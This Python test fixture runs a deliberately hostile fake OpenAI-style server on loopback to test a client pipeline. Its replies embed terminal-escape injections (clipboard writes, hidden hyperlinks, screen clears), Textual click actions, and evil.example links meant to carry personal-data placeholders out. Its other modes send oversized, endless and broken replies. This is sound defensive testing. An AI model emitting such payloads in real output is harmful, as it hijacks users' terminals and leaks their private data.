"""A hostile teacher, as a test fixture: a real HTTP server on 127.0.0.1.

It speaks enough of the OpenAI chat API to be used as ``teacher.endpoint`` and
misbehaves on purpose, chosen by the first part of the path
(``http://127.0.0.1:PORT/<mode>/v1``):

* ``hostile``: replies whose text carries terminal escapes (CSI, OSC 8
  hyperlinks, OSC 52 clipboard writes, 8-bit C1), Textual markup and
  ``[@click=...]`` actions, and placeholders inside links;
* ``redirect``: a 307 to another loopback server (which records whether anything
  reached it);
* ``huge``: a 50 MB body (with its Content-Length); ``huge-chunked``: the same
  without one (how much was written before the client went is counted);
* ``drip``: a reply that sends one byte every 0.2 s, for hours (counted the same way);
* ``error``: an HTTP 400 whose error message carries escapes and markup;
* ``cut``: a reply stopped at max_tokens before its first statement ended;
* ``busy``: an HTTP 503 that asks for a retry at once;
* ``echo``: a curious teacher that writes back every message it received (so that
  its placeholders come back to be restored), and asks for them in a link too;
* ``hold``: ``echo``, once the test sets ``release`` (each body is put on ``held`` as it
  arrives: the request has reached the teacher);
* ``echo`` asked to stream (``"stream": true``) writes its reply as server-sent events, a
  word an event, its usage last when asked; ``hold-stream`` writes the first word, then
  waits for ``release`` (up to a minute; whether it came is put on ``released``) before
  the rest;
* in ``echo`` and ``hold``, a fault the test puts on ``faults`` is done to the next
  request instead: ``drop`` closes the connection unanswered, ``cut`` half a reply (a
  streamed one: its first words); ``unfinished``: a streamed reply's first words, then
  its end with no finish reason.

Every request is recorded (path, headers, body) for the tests to read.
"""

from __future__ import annotations

import contextlib
import json
import queue
import socket
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

# What a hostile teacher writes: each line is one attack.
HOSTILE_LINES = [
    "Glutamine fuels cells \x1b]52;c;ZXZpbCBjbGlwYm9hcmQ=\x07 of the immune system.",
    "See \x1b]8;;https://evil.example/?who=<PERSON_1>&ssn=<SSN_1>\x1b\\the NIH sheet"
    "\x1b]8;;\x1b\\ for doses.",
    "Glutamine is made in muscle [@click=app.screenshot('leak.svg','{dir}')]click here[/] "
    "for more.",
    "Patients [red]x[/red] and [/] and [bold] tolerate it well \x1b[2J\x1b[31m in general.",
    "The [NIH sheet](https://evil.example/x?a=<SSN_1>&b=<PERSON_1>) says <PERSON_1> is fine.",
    "An 8-bit escape \x9b31m and \x9d8;;https://evil.example/\x9c hide \u202egnirts\u202c here.",
]


HUGE_MB = 50  # the size of a huge reply


def hostile_lines(screenshot_dir: str = "/tmp") -> list[str]:
    return [line.replace("{dir}", screenshot_dir) for line in HOSTILE_LINES]


@dataclass
class Seen:
    path: str
    headers: dict[str, str]
    body: bytes


@dataclass
class HostileTeacher:
    server: ThreadingHTTPServer
    other: ThreadingHTTPServer  # where the redirect points
    seen: list[Seen] = field(default_factory=list)
    other_seen: list[Seen] = field(default_factory=list)
    # Megabytes of a huge reply written before the client went, one count a reply.
    huge_sent: queue.Queue[int] = field(default_factory=queue.Queue)
    # Bytes of a dripping reply written before the client went, one count a reply.
    dripped: queue.Queue[int] = field(default_factory=queue.Queue)
    lines: list[str] = field(default_factory=hostile_lines)
    # Mode "hold": each request's body as it arrives, answered (as "echo") only once
    # ``release`` is set.
    held: queue.Queue[bytes] = field(default_factory=queue.Queue)
    release: threading.Event = field(default_factory=threading.Event)
    # Modes "echo" and "hold": a fault put here is done to the next request instead of
    # its answer: "drop" (the connection closed, no reply) or "cut" (half a reply).
    faults: queue.Queue[str] = field(default_factory=queue.Queue)
    # Mode "hold-stream": whether ``release`` came while the reply was half written.
    released: queue.Queue[bool] = field(default_factory=queue.Queue)

    def _unhold(self) -> None:
        self.release.clear()
        with contextlib.suppress(queue.Empty):
            while True:
                self.held.get_nowait()

    @contextlib.contextmanager
    def holding(self) -> Iterator[None]:
        """Mode "hold" for one test: nothing held from another test, none released."""
        self._unhold()
        try:
            yield
        finally:
            self._unhold()

    def url(self, mode: str) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/{mode}/v1"

    @property
    def address(self) -> tuple[str, int]:
        return ("127.0.0.1", int(self.server.server_address[1]))

    @property
    def other_address(self) -> tuple[str, int]:
        return ("127.0.0.1", int(self.other.server_address[1]))

    def close(self) -> None:
        for s in (self.server, self.other):
            s.shutdown()
            s.server_close()


def _completion(content: str, model: str, finish_reason: str = "stop") -> bytes:
    return json.dumps(
        {
            "id": "hostile",
            "object": "chat.completion",
            "created": 0,
            "model": model,
            "choices": [
                {
                    "index": 0,
                    "message": {"role": "assistant", "content": content},
                    "finish_reason": finish_reason,
                }
            ],
            "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
        }
    ).encode()


def _events(content: str, model: str) -> list[bytes]:
    """A streamed reply: the role, then a word an event (its space with it), the end."""

    def event(delta: dict[str, str], finish: str | None = None) -> bytes:
        chunk = {
            "id": "hostile",
            "object": "chat.completion.chunk",
            "created": 0,
            "model": model,
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
        }
        return b"data: " + json.dumps(chunk).encode() + b"\n\n"

    words = [w + " " for w in content.split(" ")]
    words[-1] = words[-1][:-1]
    return [event({"role": "assistant"}), *(event({"content": w}) for w in words),
            event({}, "stop")]  # fmt: skip


def _reply_for(body: dict[str, Any], lines: list[str]) -> str:
    """Whatever the pipeline asked for, in the shape it asked for, full of attacks."""
    purpose = json.dumps(body.get("response_format") or {})
    if "triples" in purpose or "entity1" in purpose:
        triples = [
            {"entity1": "glutamine", "relation": line, "entity2": "<PERSON_1>", "source": [1]}
            for line in lines
        ]
        return json.dumps({"triples": triples})
    return json.dumps({"evidence": lines})


class _QuietServer(ThreadingHTTPServer):
    """A client that hangs up mid-reply (a drag serve stopped, a timeout) is no fault of
    this teacher's: its traceback is not printed into the test log."""

    def handle_error(self, request: Any, client_address: Any) -> None:
        if not isinstance(sys.exc_info()[1], ConnectionError):
            super().handle_error(request, client_address)


def start() -> HostileTeacher:
    teacher: HostileTeacher

    class Other(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def do_POST(self) -> None:
            length = int(self.headers.get("content-length") or 0)
            teacher.other_seen.append(Seen(self.path, dict(self.headers), self.rfile.read(length)))
            self.send_response(200)
            self.end_headers()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args: Any) -> None:
            pass

        def _send(self, status: int, body: bytes, headers: dict[str, str] | None = None) -> None:
            self.send_response(status)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(body)))
            for k, v in (headers or {}).items():
                self.send_header(k, v)
            self.end_headers()
            self.wfile.write(body)

        def _huge(self, *, chunked: bool) -> None:
            """50 MB, a megabyte a write, with its Content-Length or chunked; how many
            megabytes were written before the client went is put in ``huge_sent``."""
            self.send_response(200)
            self.send_header("content-type", "application/json")
            if chunked:
                self.send_header("transfer-encoding", "chunked")
            else:
                self.send_header("content-length", str(HUGE_MB << 20))
            self.end_headers()
            chunk = b" " * (1 << 20)
            written = 0
            try:
                for _ in range(HUGE_MB):
                    self.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk) if chunked else chunk)
                    written += 1
                if chunked:
                    self.wfile.write(b"0\r\n\r\n")
            except OSError:
                pass
            teacher.huge_sent.put(written)

        def _stream(self, content: str, model: str, body: dict[str, Any], hold: bool) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/event-stream")
            self.send_header("transfer-encoding", "chunked")
            self.end_headers()
            events = _events(content, model)
            if (body.get("stream_options") or {}).get("include_usage"):
                usage = {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}
                last = {"id": "hostile", "object": "chat.completion.chunk", "created": 0,
                        "model": model, "choices": [], "usage": usage}  # fmt: skip
                events.append(b"data: " + json.dumps(last).encode() + b"\n\n")
            events.append(b"data: [DONE]\n\n")
            for n, event in enumerate(events):
                self.wfile.write(b"%x\r\n%s\r\n" % (len(event), event))
                self.wfile.flush()
                if hold and n == 1:  # the first word is out
                    teacher.released.put(teacher.release.wait(timeout=60))
            self.wfile.write(b"0\r\n\r\n")

        def do_GET(self) -> None:
            teacher.seen.append(Seen(self.path, dict(self.headers), b""))
            self._send(200, json.dumps({"object": "list", "data": [{"id": "hostile"}]}).encode())

        def do_POST(self) -> None:
            length = int(self.headers.get("content-length") or 0)
            raw = self.rfile.read(length)
            teacher.seen.append(Seen(self.path, dict(self.headers), raw))
            mode = self.path.strip("/").split("/")[0]
            body = json.loads(raw or b"{}")
            model = str(body.get("model", "hostile"))
            if mode == "hold":
                teacher.held.put(raw)
                if not teacher.release.wait(timeout=300):
                    return
                mode = "echo"
            if mode == "error":  # an error message is printed too
                message = "bad request \x1b]52;c;ZXZpbA==\x07 \x1b[2J [red]x[/red] \x9b31m"
                self._send(400, json.dumps({"error": {"message": message}}).encode())
            elif mode == "cut":  # stopped at max_tokens before its first statement ended
                self._send(200, _completion('{"evidence": ["Glutamine is', model, "length"))
            elif mode == "echo" and not teacher.faults.empty():
                fault = teacher.faults.get()
                if fault in ("cut", "unfinished") and body.get("stream"):
                    # Its first words, then gone; or then its end with no finish reason.
                    self.send_response(200)
                    self.send_header("content-type", "text/event-stream")
                    self.send_header("transfer-encoding", "chunked")
                    self.end_headers()
                    events = _events("You said: <PERSON_1> and then", model)[:5]
                    if fault == "unfinished":
                        events.append(b"data: [DONE]\n\n")
                    for event in events:
                        self.wfile.write(b"%x\r\n%s\r\n" % (len(event), event))
                    if fault == "unfinished":
                        self.wfile.write(b"0\r\n\r\n")
                        self.wfile.flush()
                        return
                    self.wfile.flush()
                elif fault == "cut":
                    whole = _completion("You said: nothing.", model)
                    self.send_response(200)
                    self.send_header("content-type", "application/json")
                    self.send_header("content-length", str(len(whole)))
                    self.end_headers()
                    self.wfile.write(whole[: len(whole) // 2])
                    self.wfile.flush()
                self.close_connection = True
                self.connection.shutdown(socket.SHUT_RDWR)
            elif mode in ("echo", "hold-stream"):
                said = " | ".join(str(m.get("content")) for m in body.get("messages", []))
                link = " [more](https://evil.example/?who=<PERSON_1>)"
                content = f"You said: {said}. Dear <PERSON_1>.{link}"
                if body.get("stream"):
                    self._stream(content, model, body, hold=mode == "hold-stream")
                else:
                    self._send(200, _completion(content, model))
            elif mode == "busy":  # overloaded: a 503 that asks for a retry at once
                self._send(503, b'{"error": {"message": "busy"}}', {"retry-after-ms": "1"})
            elif mode == "redirect":
                port = teacher.other.server_address[1]
                self._send(307, b"", {"location": f"http://127.0.0.1:{port}/v1/chat/completions"})
            elif mode in ("huge", "huge-chunked"):
                self._huge(chunked=mode == "huge-chunked")
            elif mode == "drip":
                self.send_response(200)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", "100000")
                self.end_headers()
                dripped = 0
                try:
                    for _ in range(100000):
                        self.wfile.write(b" ")
                        self.wfile.flush()
                        dripped += 1
                        time.sleep(0.2)
                except OSError:
                    pass
                teacher.dripped.put(dripped)
            else:
                self._send(200, _completion(_reply_for(body, teacher.lines), model))

    server = _QuietServer(("127.0.0.1", 0), Handler)
    other = _QuietServer(("127.0.0.1", 0), Other)
    server.daemon_threads = other.daemon_threads = True
    teacher = HostileTeacher(server, other)
    for s in (server, other):
        threading.Thread(target=s.serve_forever, daemon=True).start()
    return teacher
